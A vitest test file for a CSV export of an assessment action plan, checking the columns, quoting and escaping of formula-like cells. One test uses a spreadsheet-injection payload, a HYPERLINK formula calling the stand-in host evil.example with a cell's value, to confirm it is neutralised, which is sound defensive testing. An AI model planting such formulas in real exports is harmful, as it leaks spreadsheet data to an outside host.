import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { PLAN_CSV_COLUMNS, planToCsv } from './plan-csv.ts';
import { ASSESSMENT, samplePlan } from './fixtures.ts';

const texts: Record<string, string> = { 'alpha-first': 'Map one journey, end to end, with the people who run it.' };
const actionText = (id: string) => texts[id];

function rowsOf(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
}

describe('planToCsv', () => {
  it('writes one row per action, and one for a priority without actions, under stable English columns', () => {
    const plan = samplePlan();
    expect(rowsOf(planToCsv(plan, actionText))).toEqual([
      [...PLAN_CSV_COLUMNS],
      [ASSESSMENT, plan.resultId, plan.version, '1', `${ASSESSMENT}/alpha`, 'Developing', '2026-05-31', 'alpha-first', texts['alpha-first'], 'Head of service', 'in-progress'],
      [ASSESSMENT, plan.resultId, plan.version, '1', `${ASSESSMENT}/alpha`, 'Developing', '2026-05-31', '', 'Ask billing which handovers customers complain about.', '', 'not-started'],
      [ASSESSMENT, plan.resultId, plan.version, '2', `${ASSESSMENT}/gamma`, '60', '2026-06-30', '', '', '', ''],
    ]);
    expect(PLAN_CSV_COLUMNS.join(',')).toBe('assessment,resultId,version,priority,area,target,reviewOn,actionId,action,owner,status');
  });

  it('leaves the text empty for an action the collection no longer has', () => {
    const plan = samplePlan({ priorities: [{ ...samplePlan().priorities[0]!, actions: [{ actionId: 'retired-action', owner: 'CX lead', status: 'done' }] }] });
    expect(rowsOf(planToCsv(plan, actionText))[1]!.slice(7)).toEqual(['retired-action', '', 'CX lead', 'done']);
  });

  it('keeps owners and own actions that look like formulas from running in a spreadsheet', () => {
    const attack = { text: '=HYPERLINK("http://evil.example/?"&A1,"Click")', owner: '@SUM(1+1)', status: 'not-started' as const };
    const plan = samplePlan({ priorities: [{ ...samplePlan().priorities[0]!, actions: [attack, { text: '+1 call a day', owner: '-Ops', status: 'done' }] }] });
    const [, first, second] = rowsOf(planToCsv(plan, actionText));
    expect(first!.slice(8, 10)).toEqual([`'${attack.text}`, `'${attack.owner}`]);
    expect(second!.slice(8, 10)).toEqual(["'+1 call a day", "'-Ops"]);
  });

  it('quotes commas, quotes and line breaks so every row keeps its columns', () => {
    const plan = samplePlan({ priorities: [{ ...samplePlan().priorities[0]!, actions: [{ text: 'Ask "why", twice,\nthen write it down', owner: 'Team, front line', status: 'done' }] }] });
    const rows = rowsOf(planToCsv(plan, actionText));
    expect(rows[1]!.slice(8, 10)).toEqual(['Ask "why", twice,\nthen write it down', 'Team, front line']);
    expect(rows.every((row) => row.length === PLAN_CSV_COLUMNS.length)).toBe(true);
  });
});
